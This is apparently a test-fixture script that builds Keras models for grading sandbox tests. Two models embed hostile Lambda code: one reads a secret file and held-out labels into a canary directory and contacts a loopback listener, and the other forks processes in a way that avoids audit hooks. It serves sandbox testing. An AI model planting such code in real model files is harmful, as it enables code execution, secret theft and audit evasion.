"""Build the tiny real models the tests grade. Run in a subprocess by the session fixture:

    python tests/build_models.py OUT_DIR HELDOUT.npz CANARY_DIR SECRET PORT

so that the test process itself never imports TensorFlow (tests assert that grading does not).
Writes OUT_DIR/<name>.h5 and OUT_DIR/models.json (what Keras itself says about each model).
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import numpy as np

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

# What a hostile Lambda tries each time it runs: leave a canary file on the host, copy a host secret
# and the held-out labels into it, and reach a listener on the host's loopback. Each step is guarded (even
# against grader's tripwire, a BaseException), so one refused does not stop the next. The Lambda then zeroes
# its input, so a model whose payload ran predicts one class for every image: proof that it ran, wherever it ran.
PAYLOAD = """
def payload(t):
    import pathlib, socket
    canary = pathlib.Path({canary!r})
    for step in (
        lambda: canary.mkdir(parents=True, exist_ok=True),
        lambda: (canary / "lambda-ran-on-host").write_text("ran"),
        lambda: (canary / "secret-read").write_text(open({secret!r}).read()),
        lambda: (canary / "labels-read").write_bytes(open({labels!r}, "rb").read()),
        lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"pwned"),
    ):
        try:
            step()
        except BaseException:
            pass
    return t * 0.0
"""
# Starts twenty processes the way that raises no audit event (the C function behind subprocess): past the
# tripwire, the sandbox's process budget must stop it.
SPAWNER = """
def spawner(t):
    import os, _posixsubprocess
    for _ in range(20):
        read, write = os.pipe()
        _posixsubprocess.fork_exec(
            [b"/bin/sleep", b"30"], [b"/bin/sleep"], True, (write,), None, None, -1, -1, -1, -1, -1, -1,
            read, write, True, False, -1, None, None, None, -1, None, False,
        )
    return t
"""


def code_function(source: str):  # type: ignore[no-untyped-def]
    """The one function `source` defines, carried by a Lambda layer as its bytecode (Keras saves a function's
    bytecode when it is a lambda, and knows one by its __name__)."""
    namespace: dict = {"__name__": "__main__"}  # a student's script or notebook
    exec(source, namespace)  # noqa: S102 (building the hostile fixture)
    function = next(value for value in namespace.values() if callable(value))
    function.__name__ = "<lambda>"
    return function


def zoo(keras, layers) -> dict:  # type: ignore[no-untyped-def]
    """Untrained models covering the layers students use, for the static architecture analysis."""
    from keras import constraints, initializers, regularizers

    image = keras.Input((28, 28, 1))
    x = layers.Conv2D(
        8,
        5,
        strides=2,
        padding="same",
        kernel_regularizer=regularizers.L2(1e-4),
        kernel_constraint=constraints.MaxNorm(3),
        kernel_initializer=initializers.HeNormal(),
    )(image)
    x = layers.BatchNormalization()(x)
    x = layers.ReLU()(x)
    branch = layers.DepthwiseConv2D(3, padding="same", depth_multiplier=2)(x)
    branch = layers.SeparableConv2D(8, 3, padding="same")(branch)
    x = layers.Add()([x, branch])
    x = layers.Concatenate()([x, layers.Conv2D(4, 1)(x)])
    x = layers.MaxPooling2D(pool_size=3, strides=2)(x)
    x = layers.ZeroPadding2D(((1, 0), (0, 1)))(x)
    x = layers.Cropping2D(1)(x)
    x = layers.Conv2DTranspose(6, 3, strides=2)(x)
    x = layers.UpSampling2D()(x)
    x = layers.GlobalAveragePooling2D()(x)
    x = layers.Dropout(0.2)(layers.LayerNormalization()(layers.Dense(24)(x)))
    residual = keras.Model(image, layers.Dense(10, activation="softmax")(x), name="residual")

    sequence = keras.Input((28, 28))
    s = layers.Bidirectional(layers.LSTM(8, return_sequences=True))(sequence)
    s = layers.GRU(6)(s)
    s = layers.RepeatVector(3)(s)
    s = layers.SimpleRNN(5, return_sequences=True)(s)
    s = layers.TimeDistributed(layers.Dense(4))(s)
    s = layers.Flatten()(s)
    recurrent = keras.Model(sequence, layers.Dense(10, activation="softmax")(s), name="recurrent")

    nested = keras.Sequential(
        [
            keras.Input((784,)),
            layers.Reshape((28, 28, 1)),
            keras.Sequential(
                [layers.Conv2D(4, 3), layers.AveragePooling2D(2), layers.Permute((3, 1, 2))], name="inner"
            ),
            layers.Flatten(),
            layers.PReLU(),
            layers.Dense(10, activation="softmax"),
        ]
    )
    return {"zoo_residual": residual, "zoo_recurrent": recurrent, "zoo_nested": nested}


def keras2_models(out: Path, x: np.ndarray, y: np.ndarray) -> None:
    """Files written with the Keras 2 API (tf_keras, TensorFlow 2.18's Keras 2), and one rewritten into
    the layout Keras <= 2.2 wrote (a Sequential config that is a bare list of layers), which Keras 3
    cannot read."""
    import h5py
    import tf_keras
    from tf_keras import layers

    tf_keras.utils.set_random_seed(2)
    mlp = tf_keras.Sequential(
        [layers.Dense(24, activation="relu", input_shape=(784,)), layers.Dense(10, activation="softmax")]
    )
    mlp.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
    mlp.fit(x.reshape(-1, 784), y, epochs=2, batch_size=64, verbose=0)
    mlp.save(out / "k2_mlp.h5")
    image = tf_keras.Input((28, 28, 1))
    hidden = layers.Conv2D(4, 3, activation="relu")(image)
    cnn = tf_keras.Model(image, layers.Dense(10, activation="softmax")(layers.Flatten()(hidden)))
    cnn.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
    cnn.fit(x.reshape(-1, 28, 28, 1), y, epochs=1, batch_size=64, verbose=0)
    cnn.save(out / "k2_cnn.h5")
    tf_keras.Sequential(
        [layers.Lambda(lambda t: t * 1.0, input_shape=(784,)), layers.Dense(10, activation="softmax")]
    ).save(out / "k2_lambda.h5")
    # TensorFlow ops applied to tensors in a functional model: tf_keras saves them as TFOpLambda layers,
    # which Keras 3 cannot read.
    import tensorflow as tf

    rows = tf_keras.Input((28, 28))
    flat = tf.reshape(rows, (-1, 784)) * 1.0
    ops = tf_keras.Model(rows, layers.Dense(10, activation="softmax")(layers.Dense(16, activation="relu")(flat)))
    ops.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
    ops.fit(x, y, epochs=2, batch_size=64, verbose=0)
    ops.save(out / "k2_tfop.h5")
    legacy = out / "k2_legacy.h5"
    legacy.write_bytes((out / "k2_mlp.h5").read_bytes())
    with h5py.File(legacy, "r+") as handle:
        config = json.loads(handle.attrs["model_config"])
        config["config"] = config["config"]["layers"][1:]  # Keras <= 2.2: the layers, no InputLayer
        config["config"][0]["config"]["batch_input_shape"] = [None, 784]
        handle.attrs["model_config"] = json.dumps(config)
        handle.attrs["keras_version"] = "2.1.3"


# Ten colours, one per class, for the synthetic colour images that stand in for CIFAR-10 (whose images the
# tests may not ship): each image is its class's colour with noise and a square of another colour.
PALETTE = np.array(
    [
        [230, 25, 75],
        [60, 180, 75],
        [255, 225, 25],
        [0, 130, 200],
        [245, 130, 48],
        [145, 30, 180],
        [70, 240, 240],
        [240, 50, 230],
        [210, 245, 60],
        [128, 128, 128],
    ],
    dtype=np.float32,
)
COLOUR_CLASSES = ("airplane", "automobile", "bird", "cat", "deer", "dog", "frog", "horse", "ship", "truck")


def colour_images(count: int, seed: int) -> tuple[np.ndarray, np.ndarray]:
    """32x32 RGB images of ten classes a small network can learn: uint8 (count, 32, 32, 3) and labels."""
    rng = np.random.default_rng(seed)
    labels = rng.integers(0, 10, size=count)
    images = PALETTE[labels][:, None, None, :] + rng.normal(0, 40, size=(count, 32, 32, 3))
    for index in range(count):
        row, column = rng.integers(0, 24, size=2)
        images[index, row : row + 8, column : column + 8] = PALETTE[rng.integers(0, 10)]
    return np.clip(images, 0, 255).astype(np.uint8), labels.astype(np.int64)


def write_python_batch(path: Path, images: np.ndarray, labels: np.ndarray) -> None:
    """The images as CIFAR-10's python batch (`test_batch`): a pickled dict whose b'data' holds each image's
    red, green and blue planes in turn (N x 3072 bytes)."""
    import pickle

    planes = images.transpose(0, 3, 1, 2).reshape(len(images), -1)
    batch = {
        b"batch_label": b"testing batch 1 of 1",
        b"labels": [int(label) for label in labels],
        b"data": np.ascontiguousarray(planes),
        b"filenames": [f"image_{index:05d}.png".encode() for index in range(len(images))],
    }
    path.write_bytes(pickle.dumps(batch, protocol=2))


def colour_models(out: Path) -> dict:  # type: ignore[type-arg]
    """Models on the synthetic colour images: a CNN taking (32, 32, 3) and an MLP flattening it (as SYDE's
    question 8 asks), trained briefly; and the held-out images as an .npz and as a python batch."""
    import keras
    from keras import layers

    train_x, train_y = colour_images(1200, seed=11)
    test_x, test_y = colour_images(400, seed=12)
    np.savez(out / "colour_heldout.npz", x=test_x, y=test_y)
    write_python_batch(out / "colour_test_batch", test_x, test_y)
    scaled = train_x.astype("float32") / 255
    models = {
        "colour_cnn": keras.Sequential(
            [
                keras.Input((32, 32, 3)),
                layers.Conv2D(4, 3, activation="relu"),
                layers.MaxPooling2D(4),
                layers.Flatten(),
                layers.Dense(10, activation="softmax"),
            ]
        ),
        "colour_flat": keras.Sequential(
            [
                keras.Input((32, 32, 3)),
                layers.Flatten(),
                layers.Dense(16, activation="relu"),
                layers.Dense(10, activation="softmax"),
            ]
        ),
    }
    for model in models.values():
        model.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
        model.fit(scaled, train_y, epochs=3, batch_size=64, verbose=0)
    return models


def main(out: Path, heldout: Path, canary: Path, secret: Path, port: int) -> None:
    import keras
    from keras import layers

    keras.utils.set_random_seed(1)
    with np.load(heldout) as data:
        x, y = data["x"][:1500].astype("float32") / 255, data["y"][:1500]
    flat = x.reshape(-1, 784)

    def fit(model, inputs, epochs=2, logits=False):  # type: ignore[no-untyped-def]
        loss = keras.losses.SparseCategoricalCrossentropy(from_logits=logits)
        model.compile(optimizer="adam", loss=loss)
        model.fit(inputs, y, epochs=epochs, batch_size=64, verbose=0)
        return model

    payload = PAYLOAD.format(canary=str(canary), secret=str(secret), labels=str(heldout), port=port)
    models = {
        "mlp": fit(
            keras.Sequential(
                [keras.Input((784,)), layers.Dense(32, activation="relu"), layers.Dense(10, activation="softmax")]
            ),
            flat,
        ),
        "cnn": fit(
            keras.Sequential(
                [
                    keras.Input((28, 28, 1)),
                    layers.Conv2D(4, 3, activation="relu"),
                    layers.MaxPooling2D(),
                    layers.Flatten(),
                    layers.Dense(10, activation="softmax"),
                ]
            ),
            x.reshape(-1, 28, 28, 1),
        ),
        "flat": fit(
            keras.Sequential(
                [
                    keras.Input((28, 28)),
                    layers.Flatten(),
                    layers.Dense(16, activation="relu"),
                    layers.Dense(10, activation="softmax"),
                ]
            ),
            x,
        ),
        "logits": fit(
            keras.Sequential([keras.Input((784,)), layers.Dense(16, activation="relu"), layers.Dense(10)]),
            flat,
            logits=True,
        ),
        "five_outputs": keras.Sequential([keras.Input((784,)), layers.Dense(5, activation="softmax")]),
        "lambda": keras.Sequential(
            [keras.Input((784,)), layers.Lambda(lambda t: t * 2.0), layers.Dense(10, activation="softmax")]
        ),
        "channels_first": keras.Sequential(
            [keras.Input((1, 28, 28)), layers.Flatten(), layers.Dense(10, activation="softmax")]
        ),
        "rgb32": keras.Sequential(
            [keras.Input((32, 32, 3)), layers.Conv2D(2, 3), layers.Flatten(), layers.Dense(10, activation="softmax")]
        ),
        "rgb28": fit(
            keras.Sequential(
                [
                    keras.Input((28, 28, 3)),
                    layers.Conv2D(4, 3, activation="relu"),
                    layers.MaxPooling2D(),
                    layers.Flatten(),
                    layers.Dense(10, activation="softmax"),
                ]
            ),
            np.repeat(x[..., None], 3, axis=-1),
        ),
        "nan": keras.Sequential([keras.Input((784,)), layers.Dense(10, activation="softmax")]),
        # A dead network: its ReLU layer outputs 0 for every image, so every class gets the same score and the
        # official script's argmax gives class 0 to every image.
        "dead": keras.Sequential(
            [keras.Input((784,)), layers.Dense(16, activation="relu"), layers.Dense(10, activation="softmax")]
        ),
        # Normalises over the batch axis: each image's outputs depend on the other images in its batch.
        "batch_axis": fit(
            keras.Sequential(
                [keras.Input((784,)), layers.Dense(10), layers.UnitNormalization(axis=0), layers.Softmax()]
            ),
            flat,
        ),
        # Passes every static check, then computes for minutes: 224x224 feature maps for 3,000 images.
        "slow": keras.Sequential(
            [
                keras.Input((28, 28, 1)),
                layers.UpSampling2D((8, 8)),
                *[layers.Conv2D(32, 3, padding="same") for _ in range(6)],
                layers.GlobalAveragePooling2D(),
                layers.Dense(10, activation="softmax"),
            ]
        ),
        # Passes every static check, then needs gigabytes: 448x448x128 activations per image.
        "memory_hog": keras.Sequential(
            [
                keras.Input((28, 28, 1)),
                layers.UpSampling2D((16, 16)),
                layers.Conv2D(128, 3, padding="same"),
                layers.GlobalMaxPooling2D(),
                layers.Dense(10, activation="softmax"),
            ]
        ),
        "payload": keras.Sequential(
            [
                keras.Input((784,)),
                layers.Lambda(code_function(payload)),
                layers.Dense(10, activation="softmax"),
            ]
        ),
        "spawner": keras.Sequential(
            [
                keras.Input((784,)),
                layers.Lambda(code_function(SPAWNER)),
                layers.Dense(10, activation="softmax"),
            ]
        ),
    }
    linear = fit(keras.Sequential([keras.Input((784,)), layers.Dense(10, activation="softmax")]), flat)
    models["payload"].layers[-1].set_weights(linear.layers[-1].get_weights())
    # NaN weights behind a ReLU: TensorFlow's ReLU turns NaN into 0, so the trained output layer sees zeros
    # and gives every image the same outputs (its bias), whatever the image.
    models["nan_relu"] = fit(
        keras.Sequential(
            [keras.Input((784,)), layers.Dense(16, activation="relu"), layers.Dense(10, activation="softmax")]
        ),
        flat,
    )
    poisoned = models["nan_relu"].layers[0]
    poisoned.set_weights([np.full_like(poisoned.get_weights()[0], np.nan), poisoned.get_weights()[1]])
    # Classes 3 and 5 share their weights: an image either of them wins has both at the top, and the official
    # script's argmax gives it class 3 (a tie on about a fifth of the images, yet the model uses its input).
    models["tied_pair"] = fit(
        keras.Sequential([keras.Input((784,)), layers.Dense(16, activation="relu"), layers.Dense(10)]),
        flat,
        logits=True,
    )
    kernel, bias = models["tied_pair"].layers[-1].get_weights()
    kernel[:, 5], bias[5] = kernel[:, 3], bias[3]
    models["tied_pair"].layers[-1].set_weights([kernel, bias])
    hidden = models["dead"].layers[0]
    hidden.set_weights([hidden.get_weights()[0], np.full(16, -1e3, np.float32)])
    nan_layer = models["nan"].layers[-1]
    kernel, bias = nan_layer.get_weights()
    kernel[:, 3] = np.nan  # every image gets a NaN score for class 3
    nan_layer.set_weights([kernel, bias])

    models.update(zoo(keras, layers))
    models.update(colour_models(out))
    facts = {}
    for name, model in models.items():
        path = out / f"{name}.h5"
        model.save(path, include_optimizer=False)
        facts[name] = {
            "input_shape": list(model.input_shape),
            "parameters": int(model.count_params()),
            "output_units": int(model.output_shape[-1]),
            "output_shape": list(model.output_shape),
            "layers": {layer.name: [list(layer.output.shape), layer.count_params()] for layer in model.layers},
            "trainable": int(sum(np.prod(w.shape) for w in model.trainable_weights)),
            "non_trainable": int(sum(np.prod(w.shape) for w in model.non_trainable_weights)),
        }
    keras2_models(out, x, y)
    models["mlp"].save_weights(out / "weights_only.weights.h5")
    mlp_bytes = (out / "mlp.h5").read_bytes()
    (out / "truncated.h5").write_bytes(mlp_bytes[: len(mlp_bytes) // 2])
    (out / "text.h5").write_text('{"cells": [], "nbformat": 4}\n')
    (out / "empty.h5").write_bytes(b"")
    (out / "models.json").write_text(json.dumps(facts, indent=2))


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3]), Path(sys.argv[4]), int(sys.argv[5]))
